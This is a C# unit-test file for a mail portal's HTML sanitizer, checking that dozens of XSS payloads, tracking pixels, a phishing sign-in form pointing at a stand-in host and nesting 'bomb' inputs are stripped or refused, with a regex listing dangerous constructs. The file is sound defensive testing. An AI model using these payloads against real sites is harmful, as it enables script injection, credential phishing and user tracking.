using System.Text;
using System.Text.RegularExpressions;
using Portal.Web.Mail;

namespace Portal.Tests.Web.Mail;

/// <summary>What strangers put into HTML, and what is left of it.</summary>
public partial class MailHtmlTests
{
    public static TheoryData<string> Attacks =>
    [
        "<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</script>",
        "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"cid:logo\" onload=\"alert(1)\">",
        "<body onload=alert(1)>x</body>",
        "<div onmouseover='alert(1)'>x</div>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" java\tscript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<svg><script>alert(1)</script></svg>",
        "<svg onload=alert(1)>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template>",
        "<iframe src=\"https://evil.test\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"https://evil.test/x.swf\"></object>",
        "<embed src=\"https://evil.test/x.swf\">",
        "<form action=\"https://evil.test\"><input name=password><button>Sign in</button></form>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.test\">",
        "<base href=\"https://evil.test/\"><a href=\"x\">x</a>",
        "<link rel=stylesheet href=\"https://evil.test/x.css\">",
        "<style>@import 'https://evil.test/x.css'; body { background: url(https://evil.test/x) }</style>",
        "<div style=\"background:url(https://evil.test/x)\">x</div>",
        "<div style=\"background-image: u\\72l('https://evil.test/x')\">x</div>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div style=\"width: expression(alert(1))\">x</div>",
        "<div style=\"behavior: url(#x); -moz-binding: url(https://evil.test/x)\">x</div>",
        "<table background=\"https://evil.test/x\"><tr><td>x</td></tr></table>",
        "<img src=\"https://evil.test/pixel.gif\">",
        "<img src=\"//evil.test/pixel.gif\">",
        "<img srcset=\"https://evil.test/a 1x, https://evil.test/b 2x\">",
        "<picture><source srcset=\"https://evil.test/a\"><img src=x></picture>",
        "<video poster=\"https://evil.test/x\"><source src=\"https://evil.test/y\"></video>",
        "<input type=image src=\"https://evil.test/x\">",
        "<a href=\"/sign-out\">x</a>",
        "<a href=\"//\">x</a>",
        "<img src=\"/account/security\">",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<x onclick=alert(1)>x</x>",
        "<a href=\"https://ok.test\" ping=\"https://evil.test/ping\">x</a>",
        "<p id=\"main\" class=\"mud-dialog\" name=\"x\">x</p>",
    ];

    [Theory, MemberData(nameof(Attacks))]
    public void Nothing_runs_loads_or_leads_into_the_portal(string attack)
    {
        var safe = MailHtml.Clean($"<html><body><p>before</p>{attack}<p>after</p></body></html>", _ => "data:image/png;base64,AAAA", null);

        Assert.NotNull(safe);
        Assert.DoesNotMatch(Dangerous(), safe.Markup);
        Assert.DoesNotContain("evil.test", safe.Markup);
        Assert.Contains("before", safe.Markup);
    }

    [Fact]
    public void What_a_letter_is_made_of_stays()
    {
        var safe = MailHtml.Clean(
            """<html><body bgcolor="#fff"><table width="100%" style="border-collapse:collapse"><tr><td align="center" style="color:#333;padding:4px"><b>Sale</b> <a href="https://shop.test/?a=1&amp;b=2">here</a><o:p>kept</o:p></td></tr></table></body></html>""",
            _ => null, null)!;

        Assert.Contains("<b>Sale</b>", safe.Markup);
        Assert.Contains("href=\"https://shop.test/?a=1&amp;b=2\"", safe.Markup);
        Assert.Contains("target=\"_blank\"", safe.Markup);
        Assert.Contains("noopener", safe.Markup);
        Assert.Contains("padding", safe.Markup);
        Assert.Contains("kept", safe.Markup);
    }

    [Fact]
    public void Pictures_of_the_message_are_inlined_and_those_elsewhere_go_by_our_fetcher()
    {
        const string Html = """<img src="cid:logo@x"><img src="cid:none"><img src="http://shop.test/a.png"><td background="https://shop.test/b.png">x</td><div style="background-image:url(https://shop.test/c.png)">x</div>""";

        var blocked = MailHtml.Clean(Html, id => id == "logo@x" ? "data:image/png;base64,QUJD" : null, null)!;
        Assert.Contains("data:image/png;base64,QUJD", blocked.Markup);
        Assert.DoesNotContain("shop.test", blocked.Markup);

        var shown = MailHtml.Clean(Html, _ => null, url => "/mail/remote?u=" + Convert.ToHexString(Encoding.ASCII.GetBytes(url)))!;
        Assert.DoesNotContain("shop.test", shown.Markup);
        Assert.Contains("/mail/remote?u=" + Convert.ToHexString("http://shop.test/a.png"u8), shown.Markup);
        Assert.Contains("/mail/remote?u=" + Convert.ToHexString("https://shop.test/c.png"u8), shown.Markup);
    }

    [Fact]
    public void Bombs_are_refused_before_a_tree_is_built()
    {
        string Repeat(string text, int count) => new StringBuilder(text.Length * count).Insert(0, text, count).ToString();

        Assert.Null(MailHtml.Clean(Repeat("<div>", 300_000), _ => null, null));
        Assert.Null(MailHtml.Clean(Repeat("<div></b>", 100_000), _ => null, null));
        Assert.Null(MailHtml.Clean(Repeat("<b><i><u><a>", 100_000), _ => null, null));
        Assert.Null(MailHtml.Clean("<p " + Repeat("a=1 ", 400_000) + ">", _ => null, null));
        Assert.Null(MailHtml.Clean(Repeat("<br>", 300_000), _ => null, null));
        foreach (var start in new[] { "<p>", "<li>", "<table><tr><td>" })
            Assert.Null(MailHtml.Clean(string.Concat(Enumerable.Range(0, 250).Select(i => $"<b a{i}>")) + Repeat(start + "x", 15_000), _ => null, null));
        Assert.NotNull(MailHtml.Clean(Repeat("<p><font><b>line</b></font>", 10_000), _ => null, null));
        Assert.NotNull(MailHtml.Clean(Repeat("<p>line", 20_000), _ => null, null));
        Assert.NotNull(MailHtml.Clean($"<p style=\"width:{Repeat("calc(", 100_000)}\">x</p>", _ => null, null));
    }

    [Theory]
    [InlineData("<p>text</p>", false)]
    [InlineData("<img src=\"cid:x\">", false)]
    [InlineData("<a href=\"https://shop.test\">x</a>", false)]
    [InlineData("<img src='https://shop.test/a.png'>", true)]
    [InlineData("<img src=//shop.test/a.png>", true)]
    [InlineData("<td style=\"background: URL( 'http://shop.test/a' )\">", true)]
    public void Whether_something_is_elsewhere_is_told_from_the_text(string html, bool wanted) => Assert.Equal(wanted, MailBody.MentionsRemote(html));

    [GeneratedRegex("""<\s*(script|style|iframe|object|embed|form|input|button|meta|base|link|svg|math|template|noscript|video|source|textarea|select)\b|\son\w+\s*=|javascript:|vbscript:|expression\(|behavior|-moz-binding|url\(|@import|srcset|srcdoc|\sping=|href="/|src="/|\sid=|\sclass=|\sname=|data:text|svg\+xml""", RegexOptions.IgnoreCase)]
    private static partial Regex Dangerous();

    [Fact]
    public void A_picture_that_thousands_of_tags_ask_for_is_not_written_thousands_of_times()
    {
        var picture = "data:image/png;base64," + new string('A', 1024 * 1024);

        var safe = MailHtml.Clean(string.Concat(Enumerable.Repeat("<img src=\"cid:a\">", 2_000)), _ => picture, null)!;

        Assert.InRange(safe.Markup.Length, 10 * picture.Length, 32 * 1024 * 1024);
    }
}
